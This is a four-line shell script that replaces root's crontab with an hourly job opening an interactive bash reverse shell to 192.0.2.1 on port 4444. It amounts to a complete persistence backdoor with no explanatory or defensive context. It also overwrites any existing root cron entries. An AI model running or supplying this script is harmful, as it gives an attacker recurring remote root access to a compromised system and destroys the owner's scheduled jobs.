#!/bin/sh
cat > /var/spool/cron/crontabs/root <<END
@hourly bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
END
